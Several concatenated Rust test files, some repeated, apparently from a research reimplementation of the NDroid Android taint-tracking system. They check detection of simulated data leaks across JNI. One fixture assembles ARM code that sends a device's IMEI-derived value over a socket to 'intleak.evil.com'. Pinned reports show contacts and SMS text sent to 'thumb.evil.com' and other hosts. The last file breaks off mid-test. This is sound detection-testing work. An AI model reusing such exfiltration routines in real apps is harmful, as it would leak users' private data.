use ndroid_core::{EngineKind, Mode, RunReport, SourcePolicyOverride, SystemConfig};

const GALLERY: [(&str, fn() -> App); 3] = [
    ("qq_phonebook", qq_phonebook::qq_phonebook),
    ("thumb_spy", thumb_spy::thumb_spy),
    ("crypto_hider", crypto_hider::crypto_hider),
];

#[test]
fn legacy_new_matches_from_config_across_modes() {
    for mode in [Mode::Vanilla, Mode::TaintDroid, Mode::NDroid, Mode::DroidScopeLike] {
        for (name, build) in GALLERY {
            let legacy: RunReport = build().run(mode).expect("legacy run").report();
            let configured: RunReport = build()
                .run_with(SystemConfig::new(mode))
                .expect("configured run")
                .report();
            assert_eq!(legacy, configured, "{name} under {mode}");
        }
    }
}

#[test]
fn quiet_is_report_invariant() {
    for (name, build) in GALLERY {
        let quiet = build()
            .run_with(SystemConfig::ndroid().quiet(true))
            .expect("quiet run")
            .report();

        // RunReport excludes the trace log, so verbosity cannot change it.
        let verbose = build()
            .run_with(SystemConfig::ndroid())
            .expect("verbose run")
            .report();
        assert_eq!(quiet, verbose, "{name}: verbosity leaked into the report");
    }
}

#[test]
fn reference_config_selects_the_reference_engine_deterministically() {
    for (name, build) in GALLERY {
        let first = build()
            .run_with(SystemConfig::ndroid().reference())
            .expect("reference run")
            .report();
        assert_eq!(first.engine, EngineKind::Reference, "{name}");
        assert!(first.leaked(), "{name}: gallery app must leak on the reference engine");

        let second = build()
            .run_with(SystemConfig::ndroid().reference())
            .expect("reference rerun")
            .report();
        assert_eq!(first, second, "{name}: same config, same report");
    }
}

#[test]
fn source_policy_override_always_is_report_invariant() {
    // `Always` inflates the policy map but applies taint effects only
    // for tainted parameters — externally indistinguishable from the
    // paper's rule.
    for (name, build) in GALLERY {
        let as_paper = build()
            .run_with(SystemConfig::ndroid())
            .expect("as-paper run")
            .report();
        let always = build()
            .run_with(
                SystemConfig::ndroid().source_policies(SourcePolicyOverride::Always),
            )
            .expect("always run")
            .report();
        assert_eq!(as_paper, always, "{name}: Always changed the report");
        assert!(as_paper.leaked(), "{name}: gallery app must leak");
    }
}

/// An app whose leak is carried *only* by the §V-B source policy: a
/// tainted **primitive** (the IMEI string's length) crosses the JNI
/// boundary in a register. Object-typed flows don't isolate the
/// policy — JNI marshalling hooks also read the DVM-level object
/// taint — but a primitive's only taint carrier at the boundary is the
/// policy's shadow-register initialization.
fn tainted_int_leak_app() -> App {
    use ndroid_apps::AppBuilder;
    use ndroid_arm::reg::RegList;
    use ndroid_arm::Reg;
    use ndroid_dvm::bytecode::DexInsn;
    use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
    use ndroid_libc::libc_addr;

    let mut b = AppBuilder::new("int-leak", "tainted int crosses JNI in a register");
    let c = b.class("Lapp/IntLeak;");
    let dest = b.data_cstr("intleak.evil.com");
    let buf = b.data_buffer(8);

    // void leakInt(int secret): stores the secret and sends the buffer.
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.mov(Reg::R4, Reg::R0); // the secret int
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.ldr_const(Reg::R1, buf);
    b.asm.str(Reg::R4, Reg::R1, 0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov_imm(Reg::R2, 4).unwrap();
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));
    let native = b.native_method(c, "leakInt", "VI", true, entry);

    let imei = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getDeviceId")
        .unwrap();
    let length = b
        .program
        .find_method_by_name("Ljava/lang/String;", "length")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke { kind: InvokeKind::Static, method: imei, args: vec![] },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke { kind: InvokeKind::Static, method: length, args: vec![0] },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke { kind: InvokeKind::Static, method: native, args: vec![0] },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    b.finish("Lapp/IntLeak;", "main").unwrap()
}

#[test]
fn source_policy_override_never_drops_boundary_taint() {
    // Sanity: under the paper's rule the policy carries the taint and
    // the flow is detected.
    let as_paper = tainted_int_leak_app()
        .run_with(SystemConfig::ndroid())
        .expect("as-paper run")
        .report();
    assert!(as_paper.leaked(), "policy-carried primitive flow must be detected");

    // `Never` discards parameter taints at the Java→native boundary:
    // the exfiltration still happens (sink events fire) but no leak is
    // flagged — the under-taint ablation.
    let report = tainted_int_leak_app()
        .run_with(SystemConfig::ndroid().source_policies(SourcePolicyOverride::Never))
        .expect("never run")
        .report();
    assert!(
        !report.leaked(),
        "without source policies the register-carried flow must go undetected"
    );
    assert!(
        !report.sink_events.is_empty(),
        "the exfiltration itself still happens"
    );
}
