//! API-redesign equivalence: every legacy construction path
//! (`NDroidSystem::new`, `quiet()`, `use_reference_engine()`) and its
//! `SystemConfig` counterpart must produce identical [`RunReport`]s on
//! the three gallery apps. This is the contract that lets the
//! deprecated shims eventually disappear without behavior drift.

#![allow(deprecated)] // exercising the legacy paths is the point

use ndroid_apps::{crypto_hider, qq_phonebook, thumb_spy, App};
use ndroid_core::{
    EngineKind, Mode, NDroidSystem, RunReport, SourcePolicyOverride, SystemConfig,
};

const GALLERY: [(&str, fn() -> App); 3] = [
    ("qq_phonebook", qq_phonebook::qq_phonebook),
    ("thumb_spy", thumb_spy::thumb_spy),
    ("crypto_hider", crypto_hider::crypto_hider),
];

/// Runs the app's Java entry on an already-configured system (the
/// legacy paths configure after boot, so they can't use `run_with`).
fn run_entry(app_entry: &(String, String), sys: &mut NDroidSystem) {
    sys.run_java(&app_entry.0, &app_entry.1, &[]).expect("entry runs");
}

#[test]
fn legacy_new_matches_from_config_across_modes() {
    for mode in [Mode::Vanilla, Mode::TaintDroid, Mode::NDroid, Mode::DroidScopeLike] {
        for (name, build) in GALLERY {
            let legacy: RunReport = build().run(mode).expect("legacy run").report();
            let configured: RunReport = build()
                .run_with(SystemConfig::new(mode))
                .expect("configured run")
                .report();
            assert_eq!(legacy, configured, "{name} under {mode}");
        }
    }
}

#[test]
fn legacy_quiet_matches_config_quiet_and_verbose() {
    for (name, build) in GALLERY {
        // Legacy: boot, then the deprecated quiet() shim.
        let app = build();
        let entry = app.entry.clone();
        let mut sys = app.launch(Mode::NDroid).quiet();
        run_entry(&entry, &mut sys);
        let legacy = sys.report();

        let quiet = build()
            .run_with(SystemConfig::ndroid().quiet(true))
            .expect("quiet run")
            .report();
        assert_eq!(legacy, quiet, "{name}: legacy quiet() vs SystemConfig::quiet");

        // RunReport excludes the trace log, so verbosity cannot change it.
        let verbose = build()
            .run_with(SystemConfig::ndroid())
            .expect("verbose run")
            .report();
        assert_eq!(quiet, verbose, "{name}: verbosity leaked into the report");
    }
}

#[test]
fn legacy_reference_engine_matches_config_reference() {
    for (name, build) in GALLERY {
        let legacy = build()
            .run_configured(Mode::NDroid, NDroidSystem::use_reference_engine)
            .expect("legacy reference run")
            .report();
        assert_eq!(legacy.engine, EngineKind::Reference);

        let configured = build()
            .run_with(SystemConfig::ndroid().reference())
            .expect("configured reference run")
            .report();
        assert_eq!(
            legacy, configured,
            "{name}: use_reference_engine() vs SystemConfig::reference()"
        );
    }
}

#[test]
fn source_policy_override_always_is_report_invariant() {
    // `Always` inflates the policy map but applies taint effects only
    // for tainted parameters — externally indistinguishable from the
    // paper's rule.
    for (name, build) in GALLERY {
        let as_paper = build()
            .run_with(SystemConfig::ndroid())
            .expect("as-paper run")
            .report();
        let always = build()
            .run_with(
                SystemConfig::ndroid().source_policies(SourcePolicyOverride::Always),
            )
            .expect("always run")
            .report();
        assert_eq!(as_paper, always, "{name}: Always changed the report");
        assert!(as_paper.leaked(), "{name}: gallery app must leak");
    }
}

/// An app whose leak is carried *only* by the §V-B source policy: a
/// tainted **primitive** (the IMEI string's length) crosses the JNI
/// boundary in a register. Object-typed flows don't isolate the
/// policy — JNI marshalling hooks also read the DVM-level object
/// taint — but a primitive's only taint carrier at the boundary is the
/// policy's shadow-register initialization.
fn tainted_int_leak_app() -> App {
    use ndroid_apps::AppBuilder;
    use ndroid_arm::reg::RegList;
    use ndroid_arm::Reg;
    use ndroid_dvm::bytecode::DexInsn;
    use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
    use ndroid_libc::libc_addr;

    let mut b = AppBuilder::new("int-leak", "tainted int crosses JNI in a register");
    let c = b.class("Lapp/IntLeak;");
    let dest = b.data_cstr("intleak.evil.com");
    let buf = b.data_buffer(8);

    // void leakInt(int secret): stores the secret and sends the buffer.
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.mov(Reg::R4, Reg::R0); // the secret int
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.ldr_const(Reg::R1, buf);
    b.asm.str(Reg::R4, Reg::R1, 0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov_imm(Reg::R2, 4).unwrap();
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));
    let native = b.native_method(c, "leakInt", "VI", true, entry);

    let imei = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getDeviceId")
        .unwrap();
    let length = b
        .program
        .find_method_by_name("Ljava/lang/String;", "length")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke { kind: InvokeKind::Static, method: imei, args: vec![] },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke { kind: InvokeKind::Static, method: length, args: vec![0] },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke { kind: InvokeKind::Static, method: native, args: vec![0] },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    b.finish("Lapp/IntLeak;", "main").unwrap()
}

#[test]
fn source_policy_override_never_drops_boundary_taint() {
    // Sanity: under the paper's rule the policy carries the taint and
    // the flow is detected.
    let as_paper = tainted_int_leak_app()
        .run_with(SystemConfig::ndroid())
        .expect("as-paper run")
        .report();
    assert!(as_paper.leaked(), "policy-carried primitive flow must be detected");

    // `Never` discards parameter taints at the Java→native boundary:
    // the exfiltration still happens (sink events fire) but no leak is
    // flagged — the under-taint ablation.
    let report = tainted_int_leak_app()
        .run_with(SystemConfig::ndroid().source_policies(SourcePolicyOverride::Never))
        .expect("never run")
        .report();
    assert!(
        !report.leaked(),
        "without source policies the register-carried flow must go undetected"
    );
    assert!(
        !report.sink_events.is_empty(),
        "the exfiltration itself still happens"
    );
}
