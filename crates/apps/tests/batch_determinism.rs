//! Batch-farm determinism: for any job mix the merged [`BatchReport`]
//! is identical — field-for-field and byte-for-byte in its rendering —
//! whether the farm runs 1, 2, or 8 workers. Replay a failing mix with
//! `TESTKIT_SEED`.

use ndroid_apps::farm::{CorpusShard, Gallery, Monkey};
use ndroid_core::batch::{
    jobs_from, run_batch, AnalysisJob, BatchConfig, BatchReport, JobOutcome, JobSource,
};
use ndroid_core::{EventKind, ProvQuery, ProvenanceLevel, SystemConfig};
use ndroid_testkit::prelude::*;

/// One deterministic job mix: gallery apps, a corpus shard, and monkey
/// sessions, all parameterized by the generated values.
fn job_mix(shard: usize, shard_seed: u64, sessions: usize, steps: usize) -> Vec<AnalysisJob> {
    let config = SystemConfig::ndroid().quiet(true);
    jobs_from(
        &[
            &Gallery,
            &CorpusShard { n: shard, seed: shard_seed },
            &Monkey::fresh(sessions, steps, shard_seed ^ 0x5EED),
        ],
        &config,
    )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4))]

    #[test]
    fn worker_count_never_changes_the_report(
        shard in 4usize..10,
        shard_seed in any::<u64>(),
        sessions in 0usize..4,
        steps in 1usize..30,
    ) {
        let one = run_batch(job_mix(shard, shard_seed, sessions, steps), BatchConfig::new(1));
        let two = run_batch(job_mix(shard, shard_seed, sessions, steps), BatchConfig::new(2));
        let eight = run_batch(job_mix(shard, shard_seed, sessions, steps), BatchConfig::new(8));
        prop_assert_eq!(&one, &two);
        prop_assert_eq!(&one, &eight);
        prop_assert_eq!(one.render(), eight.render());
        prop_assert_eq!(one.results.len(), 3 + shard + sessions);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4))]

    /// The cross-run query satellite: with the tiered store on,
    /// `BatchReport::query` over a 2- or 8-worker merge is
    /// byte-identical (structurally and in its rendering) to the same
    /// query over the sequential 1-worker merge — per-label,
    /// sink-kind, and seq-range filters alike. The frozen stores ride
    /// `RunReport` across worker threads, so this also pins that the
    /// sealing itself is schedule-free.
    #[test]
    fn prov_queries_are_worker_count_invariant(
        shard in 4usize..8,
        shard_seed in any::<u64>(),
        cap in 2usize..6,
        bits in 1u32..0x800,
    ) {
        let jobs = || {
            let config = SystemConfig::ndroid()
                .quiet(true)
                .provenance(ProvenanceLevel::Full)
                .provenance_store(true)
                .provenance_capacity(cap);
            jobs_from(&[&Gallery, &CorpusShard { n: shard, seed: shard_seed }], &config)
        };
        let one = run_batch(jobs(), BatchConfig::new(1));
        let two = run_batch(jobs(), BatchConfig::new(2));
        let eight = run_batch(jobs(), BatchConfig::new(8));
        let queries = [
            ProvQuery::new().label(bits),
            ProvQuery::new().kind(EventKind::Sink),
            ProvQuery::new().kind(EventKind::Source).seq_range(0, 4),
            ProvQuery::new().sink("send"),
        ];
        for q in &queries {
            let sequential = one.query(q);
            prop_assert_eq!(&sequential, &two.query(q));
            prop_assert_eq!(&sequential, &eight.query(q));
            prop_assert_eq!(sequential.render(), eight.query(q).render());
            // Hits are merged by submission order, sequence within.
            prop_assert!(sequential
                .hits
                .windows(2)
                .all(|w| (w[0].job, w[0].seq) < (w[1].job, w[1].seq)));
        }
        // Every completed job carried a frozen store to query.
        prop_assert!(one
            .results
            .iter()
            .filter_map(|r| r.outcome.report())
            .all(|rep| rep.provenance_store.is_some()));
    }
}

/// Crashing and failing jobs merge deterministically too — panic
/// payloads and error strings land in the same slots for any worker
/// count. Kept out of the property loop so the intentional panics
/// don't multiply across cases.
#[test]
fn crashes_and_failures_merge_deterministically() {
    let mix = || {
        let config = SystemConfig::ndroid().quiet(true);
        let mut jobs = Gallery.jobs(&config);
        jobs.insert(
            1,
            AnalysisJob::new("synthetic/crash", || panic!("deterministic boom")),
        );
        jobs.push(AnalysisJob::new("synthetic/fail", || {
            Err("deterministic failure".to_string())
        }));
        jobs
    };
    let one = run_batch(mix(), BatchConfig::new(1));
    let eight = run_batch(mix(), BatchConfig::new(8));
    assert_eq!(one, eight);
    assert_eq!(one.render(), eight.render());
    assert_eq!(one.crashed(), 1);
    assert_eq!(one.failed(), 1);
    assert_eq!(one.completed(), 3);
    assert!(matches!(
        &one.results[1].outcome,
        JobOutcome::Crashed(m) if m == "deterministic boom"
    ));
    assert!(matches!(
        &one.results[4].outcome,
        JobOutcome::Failed(m) if m == "deterministic failure"
    ));
}

/// Provenance recording rides the farm deterministically: the per-job
/// flow-graph fingerprints (and drop counters) in the merged report are
/// identical whether 1, 2, or 8 workers ran the pinned gallery apps —
/// the event streams are per-system, so worker scheduling can't
/// interleave them.
#[test]
fn provenance_fingerprints_are_worker_count_invariant() {
    let jobs = || {
        let config = SystemConfig::ndroid()
            .quiet(true)
            .provenance(ProvenanceLevel::Full);
        Gallery.jobs(&config)
    };
    let fingerprints = |r: &BatchReport| -> Vec<(String, u64, u64, usize)> {
        r.results
            .iter()
            .map(|j| {
                let p = match &j.outcome {
                    JobOutcome::Completed(rep) => {
                        rep.provenance.expect("Full-level job carries a summary")
                    }
                    other => panic!("gallery job did not complete: {other:?}"),
                };
                (j.label.clone(), p.fingerprint, p.dropped, p.leak_paths)
            })
            .collect()
    };
    let one = run_batch(jobs(), BatchConfig::new(1));
    let two = run_batch(jobs(), BatchConfig::new(2));
    let eight = run_batch(jobs(), BatchConfig::new(8));
    let pinned = fingerprints(&one);
    assert_eq!(pinned, fingerprints(&two));
    assert_eq!(pinned, fingerprints(&eight));
    assert_eq!(pinned.len(), 3, "three gallery apps");
    for (name, _, dropped, leak_paths) in &pinned {
        assert_eq!(*dropped, 0, "{name}: ring never overflows on the gallery");
        assert!(*leak_paths > 0, "{name}: every gallery app yields a leak path");
    }
    assert_eq!(one, eight, "whole merged reports stay equal too");
}
