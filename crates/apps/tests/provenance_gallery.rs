//! Gallery leak-path pins for the provenance subsystem: each pinned
//! gallery leak must be reconstructible as a non-empty source→sink
//! path whose endpoints match the pinned [`LeakEvent`]s, identically
//! across tracer engines (the differential-oracle guarantee extends to
//! the event stream) and at both recording levels.

use ndroid_apps::qq_phonebook;
use ndroid_apps::testutil::{assert_paths_cover_pinned_leaks, run_prov as run, run_store, GALLERY};
use ndroid_core::{EngineKind, FlowGraph, ProvEvent, ProvenanceLevel};

#[test]
fn gallery_leak_paths_reconstruct_under_full() {
    for (name, build) in GALLERY {
        let sys = run(build, EngineKind::Optimized, ProvenanceLevel::Full);
        let graph = sys.flow_graph();
        assert_paths_cover_pinned_leaks(name, &sys, &graph);
        // Full level additionally carries native block summaries.
        assert!(
            graph
                .events()
                .iter()
                .any(|e| matches!(e, ProvEvent::NativeBlock { .. })),
            "{name}: Full level records native block summaries"
        );
    }
}

#[test]
fn gallery_leak_paths_reconstruct_under_summary() {
    for (name, build) in GALLERY {
        let sys = run(build, EngineKind::Optimized, ProvenanceLevel::Summary);
        let graph = sys.flow_graph();
        assert_paths_cover_pinned_leaks(name, &sys, &graph);
        assert!(
            !graph
                .events()
                .iter()
                .any(|e| matches!(e, ProvEvent::NativeBlock { .. })),
            "{name}: Summary level omits per-block events"
        );
    }
}

#[test]
fn engines_record_identical_event_streams() {
    for level in [ProvenanceLevel::Summary, ProvenanceLevel::Full] {
        for (name, build) in GALLERY {
            let opt = run(build, EngineKind::Optimized, level);
            let refr = run(build, EngineKind::Reference, level);
            assert_eq!(
                opt.prov_events(),
                refr.prov_events(),
                "{name} at {level}: engine changed the event stream"
            );
            assert_eq!(
                opt.flow_graph().fingerprint(),
                refr.flow_graph().fingerprint(),
                "{name} at {level}: engine changed the flow graph"
            );
        }
    }
}

#[test]
fn report_summary_digests_the_graph() {
    for (name, build) in GALLERY {
        let sys = run(build, EngineKind::Optimized, ProvenanceLevel::Full);
        let graph = sys.flow_graph();
        let report = sys.report();
        let summary = report.provenance.expect("Full run carries a summary");
        assert_eq!(summary.level, ProvenanceLevel::Full, "{name}");
        assert_eq!(summary.fingerprint, graph.fingerprint(), "{name}");
        assert_eq!(summary.leak_paths, graph.total_leak_paths(), "{name}");
        assert_eq!(summary.recorded, graph.events().len() as u64, "{name}");
        assert_eq!(summary.dropped, 0, "{name}: default ring never overflows here");
        assert!(summary.leak_paths > 0, "{name}: at least one leak path");
    }
}

#[test]
fn off_level_records_nothing_and_reports_none() {
    for (name, build) in GALLERY {
        let sys = run(build, EngineKind::Optimized, ProvenanceLevel::Off);
        assert!(sys.prov_events().is_empty(), "{name}");
        assert_eq!(sys.flow_graph().total_leak_paths(), 0, "{name}");
        let report = sys.report();
        assert!(report.provenance.is_none(), "{name}: Off reports no summary");
        assert!(report.leaked(), "{name}: detection itself is unaffected");
    }
}

/// The tiered store is invisible to every golden — same events, same
/// fingerprint, same leak paths, nothing dropped — while the sealed
/// segments' kind masks let the leak-path accounting decode fewer than
/// half of them (the segment-skip acceptance gate).
#[test]
fn tiered_store_preserves_goldens_and_skips_segments() {
    for (name, build) in GALLERY {
        let flat = run(build, EngineKind::Optimized, ProvenanceLevel::Full);
        let sys = run_store(build, EngineKind::Optimized, ProvenanceLevel::Full, 4);
        assert_eq!(sys.prov_events(), flat.prov_events(), "{name}: stream unchanged");
        let report = sys.report();
        let summary = report.provenance.expect("tiered run carries a summary");
        let baseline = flat.report().provenance.expect("flat run carries a summary");
        assert_eq!(summary.fingerprint, baseline.fingerprint, "{name}");
        assert_eq!(summary.leak_paths, baseline.leak_paths, "{name}");
        assert_eq!(summary.dropped, 0, "{name}: tiered mode never drops");
        assert!(summary.segments >= 3, "{name}: capacity 4 forces sealing");
        assert!(
            summary.segments_decoded * 2 < summary.segments,
            "{name}: leak-path accounting decoded {}/{} segments",
            summary.segments_decoded,
            summary.segments,
        );

        // The frozen store in the report reproduces the stream exactly
        // and supports label-filtered reconstruction that skips
        // non-intersecting segments.
        let store = report
            .provenance_store
            .as_ref()
            .expect("tiered run snapshots its store");
        assert_eq!(store.events_vec(), flat.prov_events(), "{name}");
        let sink_label = sys
            .prov_events()
            .iter()
            .rev()
            .find_map(|e| match e {
                ProvEvent::Sink { label, .. } => Some(*label),
                _ => None,
            })
            .expect("gallery apps always sink");
        let (labeled, stats) = FlowGraph::build_label(store, sink_label);
        assert_eq!(stats.decoded + stats.skipped, stats.segments, "{name}");
        assert!(labeled.total_leak_paths() > 0, "{name}: paths survive filtering");
        let sink = *labeled.sinks().last().expect("sink in filtered graph");
        for path in &labeled.leak_paths(sink) {
            let rendered = labeled.render_path(path);
            assert!(rendered.contains("source "), "{name}: {rendered}");
            assert!(rendered.contains("sink "), "{name}: {rendered}");
        }
    }
}

/// Flat (non-tiered) runs keep reports lean: no store snapshot rides
/// along, and the tier counters stay zero.
#[test]
fn flat_runs_report_no_store_and_zero_segments() {
    for (name, build) in GALLERY {
        let sys = run(build, EngineKind::Optimized, ProvenanceLevel::Full);
        let report = sys.report();
        assert!(report.provenance_store.is_none(), "{name}");
        let summary = report.provenance.expect("summary");
        assert_eq!(summary.segments, 0, "{name}: flat mode never seals");
        assert_eq!(summary.segments_decoded, 0, "{name}");
    }
}

#[test]
fn qq_phonebook_path_walks_the_jni_round_trip() {
    // The paper's Fig. 6 flow, reconstructed: contacts + SMS enter as
    // Java sources, cross into native through GetStringUTFChars, ride
    // the libc string machinery, return through NewStringUTF, and post
    // from Java with the 0x202 union label.
    let sys = run(
        qq_phonebook::qq_phonebook,
        EngineKind::Optimized,
        ProvenanceLevel::Full,
    );
    let graph = sys.flow_graph();
    let sink = *graph.sinks().last().expect("sink recorded");
    let paths = graph.leak_paths(sink);
    assert_eq!(paths.len(), 2, "one path for contacts, one for sms");
    for path in &paths {
        let rendered = graph.render_path(path);
        assert!(rendered.contains("source "), "{rendered}");
        assert!(rendered.contains("jni-entry "), "{rendered}");
        assert!(
            rendered.contains("transfer GetStringUTFChars java->native"),
            "{rendered}"
        );
        assert!(rendered.contains("libc "), "{rendered}");
        assert!(
            rendered.contains("transfer NewStringUTF native->java"),
            "{rendered}"
        );
        assert!(rendered.contains("jni-exit "), "{rendered}");
        assert!(
            rendered.contains("sink HttpClient.post(sync.3g.qq.com) [java]"),
            "{rendered}"
        );
    }
}
