//! Gallery leak-path pins for the provenance subsystem: each pinned
//! gallery leak must be reconstructible as a non-empty source→sink
//! path whose endpoints match the pinned [`LeakEvent`]s, identically
//! across tracer engines (the differential-oracle guarantee extends to
//! the event stream) and at both recording levels.

use ndroid_apps::qq_phonebook;
use ndroid_apps::testutil::{assert_paths_cover_pinned_leaks, run_prov as run, GALLERY};
use ndroid_core::{EngineKind, ProvEvent, ProvenanceLevel};

#[test]
fn gallery_leak_paths_reconstruct_under_full() {
    for (name, build) in GALLERY {
        let sys = run(build, EngineKind::Optimized, ProvenanceLevel::Full);
        let graph = sys.flow_graph();
        assert_paths_cover_pinned_leaks(name, &sys, &graph);
        // Full level additionally carries native block summaries.
        assert!(
            graph
                .events()
                .iter()
                .any(|e| matches!(e, ProvEvent::NativeBlock { .. })),
            "{name}: Full level records native block summaries"
        );
    }
}

#[test]
fn gallery_leak_paths_reconstruct_under_summary() {
    for (name, build) in GALLERY {
        let sys = run(build, EngineKind::Optimized, ProvenanceLevel::Summary);
        let graph = sys.flow_graph();
        assert_paths_cover_pinned_leaks(name, &sys, &graph);
        assert!(
            !graph
                .events()
                .iter()
                .any(|e| matches!(e, ProvEvent::NativeBlock { .. })),
            "{name}: Summary level omits per-block events"
        );
    }
}

#[test]
fn engines_record_identical_event_streams() {
    for level in [ProvenanceLevel::Summary, ProvenanceLevel::Full] {
        for (name, build) in GALLERY {
            let opt = run(build, EngineKind::Optimized, level);
            let refr = run(build, EngineKind::Reference, level);
            assert_eq!(
                opt.prov_events(),
                refr.prov_events(),
                "{name} at {level}: engine changed the event stream"
            );
            assert_eq!(
                opt.flow_graph().fingerprint(),
                refr.flow_graph().fingerprint(),
                "{name} at {level}: engine changed the flow graph"
            );
        }
    }
}

#[test]
fn report_summary_digests_the_graph() {
    for (name, build) in GALLERY {
        let sys = run(build, EngineKind::Optimized, ProvenanceLevel::Full);
        let graph = sys.flow_graph();
        let report = sys.report();
        let summary = report.provenance.expect("Full run carries a summary");
        assert_eq!(summary.level, ProvenanceLevel::Full, "{name}");
        assert_eq!(summary.fingerprint, graph.fingerprint(), "{name}");
        assert_eq!(summary.leak_paths, graph.total_leak_paths(), "{name}");
        assert_eq!(summary.recorded, graph.events().len() as u64, "{name}");
        assert_eq!(summary.dropped, 0, "{name}: default ring never overflows here");
        assert!(summary.leak_paths > 0, "{name}: at least one leak path");
    }
}

#[test]
fn off_level_records_nothing_and_reports_none() {
    for (name, build) in GALLERY {
        let sys = run(build, EngineKind::Optimized, ProvenanceLevel::Off);
        assert!(sys.prov_events().is_empty(), "{name}");
        assert_eq!(sys.flow_graph().total_leak_paths(), 0, "{name}");
        let report = sys.report();
        assert!(report.provenance.is_none(), "{name}: Off reports no summary");
        assert!(report.leaked(), "{name}: detection itself is unaffected");
    }
}

#[test]
fn qq_phonebook_path_walks_the_jni_round_trip() {
    // The paper's Fig. 6 flow, reconstructed: contacts + SMS enter as
    // Java sources, cross into native through GetStringUTFChars, ride
    // the libc string machinery, return through NewStringUTF, and post
    // from Java with the 0x202 union label.
    let sys = run(
        qq_phonebook::qq_phonebook,
        EngineKind::Optimized,
        ProvenanceLevel::Full,
    );
    let graph = sys.flow_graph();
    let sink = *graph.sinks().last().expect("sink recorded");
    let paths = graph.leak_paths(sink);
    assert_eq!(paths.len(), 2, "one path for contacts, one for sms");
    for path in &paths {
        let rendered = graph.render_path(path);
        assert!(rendered.contains("source "), "{rendered}");
        assert!(rendered.contains("jni-entry "), "{rendered}");
        assert!(
            rendered.contains("transfer GetStringUTFChars java->native"),
            "{rendered}"
        );
        assert!(rendered.contains("libc "), "{rendered}");
        assert!(
            rendered.contains("transfer NewStringUTF native->java"),
            "{rendered}"
        );
        assert!(rendered.contains("jni-exit "), "{rendered}");
        assert!(
            rendered.contains("sink HttpClient.post(sync.3g.qq.com) [java]"),
            "{rendered}"
        );
    }
}
