//! Deterministic end-to-end regression pins for the gallery apps'
//! leak reports under NDroid mode: exact sink, destination, payload
//! bytes (with the tainted byte ranges inside the payload), and taint
//! label, plus a same-report-on-every-run determinism check. Any
//! change to the analysis that alters what these apps leak — or where
//! in the payload the tainted bytes sit — fails here first.

use ndroid_apps::testutil::{run_ndroid as run, GALLERY};
use ndroid_apps::{crypto_hider, qq_phonebook, thumb_spy};
use ndroid_dvm::{SinkContext, Taint};

#[test]
fn qq_phonebook_report_is_pinned() {
    let sys = run(qq_phonebook::qq_phonebook);
    let leaks = sys.leaks();
    assert_eq!(leaks.len(), 1, "exactly one leak report");
    let l = leaks[0];
    // Fig. 6's flow: contact + SMS text concatenated into the login URL
    // and posted from Java after the native round trip.
    assert_eq!(l.sink, "HttpClient.post");
    assert_eq!(l.dest, "sync.3g.qq.com");
    assert_eq!(l.context, SinkContext::Java);
    assert_eq!(l.taint, Taint::CONTACTS | Taint::SMS, "0x202 label");
    assert_eq!(
        l.data,
        "http://sync.3g.qq.com/xpimlogin?sid=Vincentsecret meeting at 5pm"
    );
    // Byte ranges inside the payload: [0, 36) URL template, [36, 43)
    // the CONTACTS-derived sid, [43, 64) the SMS body.
    assert_eq!(&l.data[..36], "http://sync.3g.qq.com/xpimlogin?sid=");
    assert_eq!(&l.data[36..43], "Vincent");
    assert_eq!(&l.data[43..], "secret meeting at 5pm");
}

#[test]
fn thumb_spy_report_is_pinned() {
    let sys = run(thumb_spy::thumb_spy);
    let leaks = sys.leaks();
    assert_eq!(leaks.len(), 1, "exactly one leak report");
    let l = leaks[0];
    // Case 2 via a Thumb-mode byte-copy loop: the whole 7-byte payload
    // is the contact string; every wire byte is tainted.
    assert_eq!(l.sink, "send");
    assert_eq!(l.dest, "thumb.evil.com");
    assert_eq!(l.context, SinkContext::Native);
    assert_eq!(l.taint, Taint::CONTACTS);
    assert_eq!(l.data, "Vincent");
    assert_eq!(sys.kernel.network_log.len(), 1);
    let (dest, wire, taint) = &sys.kernel.network_log[0];
    assert_eq!(dest, "thumb.evil.com");
    assert_eq!(wire, b"Vincent", "bytes [0, 7) on the wire");
    assert_eq!(*taint, Taint::CONTACTS);
}

#[test]
fn crypto_hider_report_is_pinned() {
    let sys = run(crypto_hider::crypto_hider);
    let leaks = sys.leaks();
    assert_eq!(leaks.len(), 1, "exactly one leak report");
    let l = leaks[0];
    assert_eq!(l.sink, "send");
    assert_eq!(l.dest, "relay.messenger.example");
    assert_eq!(l.context, SinkContext::Native);
    assert_eq!(l.taint, Taint::CONTACTS, "label survives the XOR cipher");
    let (_, wire, _) = &sys.kernel.network_log[0];
